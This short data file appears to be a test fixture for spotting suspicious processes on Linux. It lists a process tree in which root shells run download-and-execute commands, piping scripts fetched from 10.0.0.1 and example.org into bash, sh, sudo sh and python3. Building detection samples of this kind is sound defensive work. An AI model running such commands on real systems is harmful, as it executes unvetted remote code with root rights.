os linux
1 0 root systemd /usr/lib/systemd/systemd | /sbin/init
+ 101 1 root sh /usr/bin/dash | sh -c curl -fsSL http://10.0.0.1/x.sh | bash
+ 102 1 root sh /usr/bin/dash | sh -c wget -qO- 10.0.0.1/x | sudo -E sh -s --
+ 103 1 root - /usr/bin/bash | bash -c bash <(curl -s https://example.org/i)
+ 104 1 root - /usr/bin/bash | bash -c sh -c "$(curl -fsSL https://example.org/install.sh)"
+ 105 1 root - /usr/bin/bash | bash -c curl https://example.org/a.py 2>&1 | python3 -
